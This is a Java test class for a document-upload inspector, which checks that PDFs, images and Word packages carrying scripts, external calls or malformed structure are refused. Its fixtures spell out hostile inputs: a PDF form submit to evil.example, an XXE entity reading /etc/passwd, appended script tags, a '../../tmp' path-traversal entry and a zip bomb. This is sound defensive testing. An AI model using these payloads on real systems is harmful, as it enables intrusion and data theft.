package cn.zhiban.material.inspection;

import static cn.zhiban.material.inspection.HostileFiles.bytes;
import static cn.zhiban.material.inspection.HostileFiles.joined;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import cn.zhiban.testing.Papers;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What is taken and what is refused, and what is said of it. */
class InspectionTest {

    private static final int A4_WIDTH = 595;

    @TempDir
    private Path folder;

    @Test
    void documentsAndImagesAreWhatTheyAre() throws Exception {
        assertThat(look(Papers.pdf())).isEqualTo(new Finding("application/pdf", 1));
        assertThat(look(HostileFiles.image("png", 30, 20))).isEqualTo(new Finding("image/png", 1));
        assertThat(look(HostileFiles.image("jpeg", 30, 20))).isEqualTo(new Finding("image/jpeg", 1));
        assertThat(look(HostileFiles.docx(Map.of()))).isEqualTo(new Finding(FileType.DOCX, 0));
        assertThat(look(HostileFiles.ofd())).isEqualTo(new Finding(FileType.OFD, 0));
    }

    @Test
    void aDocumentThatRunsSomethingIsRefusedHoweverItHidesThat() throws Exception {
        assertRefused("upload-script", HostileFiles.pdfWithScript());
        assertRefused("upload-script", HostileFiles.pdfWithHiddenScript());
        assertRefused("upload-script", HostileFiles.pdfWithPackedScript());
        assertRefused("upload-script", HostileFiles.pdfThatStartsAProgram());
        assertRefused("upload-script", HostileFiles.docx(Map.of("word/vbaProject.bin", new byte[10])));
    }

    @Test
    void aDocumentThatReachesOutsideIsRefused() throws Exception {
        assertRefused(
                "upload-script", Papers.pdf("/OpenAction<</S/SubmitForm/F(http://evil.example)>>", "", new byte[0]));
        assertRefused("upload-script", Papers.pdf("/OpenAction<</S/GoToR/F(other.pdf)>>", "", new byte[0]));
        assertRefused("upload-script", Papers.pdf("/AcroForm<</XFA(template)/Fields[]>>", "", new byte[0]));
        assertRefused("upload-script", HostileFiles.docx(Map.of("word/embeddings/oleObject1.bin", new byte[10])));
        assertRefused(
                "upload-script",
                HostileFiles.docx(Map.of("word/_rels/settings.xml.rels", relation("attachedTemplate"))));
        assertRefused(
                "upload-script",
                HostileFiles.docx(Map.of(
                        "word/styles.xml",
                        bytes("<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"))));
        assertThat(look(HostileFiles.docx(Map.of("word/_rels/document.xml.rels", relation("hyperlink")))))
                .as("a link to be followed harms nobody")
                .isEqualTo(new Finding(FileType.DOCX, 0));
    }

    @Test
    void whatIsAppendedToAnImageIsRefused() throws Exception {
        for (var format : List.of("png", "jpeg")) {
            var image = HostileFiles.image(format, 300, 200);
            assertRefused("upload-ambiguous", joined(image, bytes("\n<HTML><script>alert(1)</script>")));
            assertRefused("upload-ambiguous", joined(image, Papers.pdf()));
            assertThat(look(joined(image, bytes("what a camera notes"))))
                    .as(format)
                    .isNotNull();
        }
    }

    @Test
    void aFileThatNobodyCouldOpenIsRefused() throws Exception {
        assertRefused("upload-broken", HostileFiles.pngOf(5_000, 5_000));
    }

    @Test
    void aPackageWhosePartsLieElsewhereOrTwiceIsRefused() throws Exception {
        assertRefused("upload-broken", HostileFiles.docx(Map.of("../../tmp/part.xml", bytes("<a/>"))));
        assertRefused("upload-broken", HostileFiles.docx(Map.of("Word/Document.xml", bytes("<a/>"))));
        assertRefused("upload-broken", HostileFiles.docx(Map.of("word/styles.xml", bytes("<a>"))));
    }

    private static byte[] relation(String type) {
        return bytes("<Relationships><Relationship Id=\"r1\" Type=\"http://x/relationships/" + type
                + "\" Target=\"http://evil.example/x\" TargetMode=\"External\"/></Relationships>");
    }

    @Test
    void thePackedScriptIsReallyOutOfSight() throws Exception {
        assertThat(new String(HostileFiles.pdfWithPackedScript(), StandardCharsets.ISO_8859_1))
                .doesNotContain("JavaScript")
                .doesNotContain("alert");
    }

    @Test
    void aDocumentThatNobodyCouldReadIsRefused() throws Exception {
        assertRefused("upload-locked", HostileFiles.pdfWithPassword());
        assertRefused("upload-broken", bytes("%PDF-1.7\nnothing of a document"));
        assertRefused("upload-broken", HostileFiles.image("png", 30, 20), 20);
        assertRefused("upload-broken", HostileFiles.docx(Map.of()), 60);
    }

    @Test
    void anImageOfNineHundredMegapixelsIsRefusedByItsHead() {
        assertRefused("upload-pixels", HostileFiles.pngOf(30_000, 30_000));
    }

    @Test
    void anArchiveThatGrowsBeyondMeasureIsRefused() throws Exception {
        var bomb = HostileFiles.docxBomb();

        assertThat(bomb.length).isLessThan(1024 * 1024);
        assertRefused("upload-unpacked", bomb);
    }

    @Test
    void anArchiveThatIsNoDocumentIsRefused() throws Exception {
        assertRefused("upload-type", HostileFiles.archive(Map.of("a.txt", bytes("a")), Map.of(), 0));
    }

    @Test
    void aFileThatIsTwoThingsAtOnceIsRefused() throws Exception {
        var png = HostileFiles.image("png", 30, 20);
        var jpeg = HostileFiles.image("jpeg", 30, 20);
        var zip = HostileFiles.archive(Map.of("a.txt", bytes("a")), Map.of(), 0);

        assertRefused("upload-ambiguous", joined(png, zip));
        assertRefused("upload-ambiguous", joined(Papers.pdf(), zip));
        assertRefused("upload-ambiguous", joined(jpeg, bytes("<script>alert(1)</script>")));
        assertRefused("upload-ambiguous", joined(bytes("%PDF-1.4\n<!DOCTYPE html><script>1</script>"), Papers.pdf()));
        assertRefused("upload-ambiguous", joined(png, Papers.pdf()));
    }

    @Test
    void aPhotographWithATrailOfItsCameraIsTaken() throws Exception {
        assertThat(look(joined(HostileFiles.image("jpeg", 30, 20), new byte[5_000], bytes("MotionPhoto_Data"))))
                .isEqualTo(new Finding("image/jpeg", 1));
    }

    @Test
    void aPageIsDrawnToABoundedSize() throws Exception {
        assertThat(width(FileType.PDF, Papers.pdf())).isBetween(A4_WIDTH * 2, 1_800);
        assertThat(width(FileType.PNG, HostileFiles.image("png", 6_000, 100))).isBetween(1_200, 1_600);
        assertThat(width(FileType.JPEG, HostileFiles.image("jpeg", 300, 100))).isEqualTo(300);
        assertThatThrownBy(() -> Inspection.page(FileType.PACKAGE, kept(HostileFiles.ofd()), 1))
                .isInstanceOf(UnfitFile.class);
    }

    @Test
    void aPhotographIsShownAsTheCameraWasHeld() throws Exception {
        var lying = HostileFiles.turned(HostileFiles.image("jpeg", 300, 100), 6);

        assertThat(width(FileType.JPEG, lying)).isEqualTo(100);
        assertThat(width(FileType.JPEG, HostileFiles.turned(HostileFiles.image("jpeg", 300, 100), 3)))
                .isEqualTo(300);
    }

    @Test
    void aScanALittleLargerThanThePageStaysReadable() throws Exception {
        assertThat(width(FileType.PNG, HostileFiles.image("png", 1_700, 100))).isEqualTo(1_600);
    }

    private int width(FileType type, byte[] content) throws Exception {
        return ImageIO.read(new ByteArrayInputStream(Inspection.page(type, kept(content), 1)))
                .getWidth();
    }

    private Finding look(byte[] content) throws Exception {
        return Inspection.of(FileType.of(content), kept(content));
    }

    private void assertRefused(String code, byte[] content) {
        assertThatThrownBy(() -> look(content)).isInstanceOfSatisfying(UnfitFile.class, unfit -> {
            assertThat(unfit.code()).isEqualTo(code);
            assertThat(unfit.getMessage()).containsPattern("\\p{IsHan}");
        });
    }

    private void assertRefused(String code, byte[] content, int cutAt) {
        assertRefused(code, Arrays.copyOf(content, cutAt));
    }

    private Path kept(byte[] content) throws IOException {
        return Files.write(folder.resolve("file"), content);
    }
}
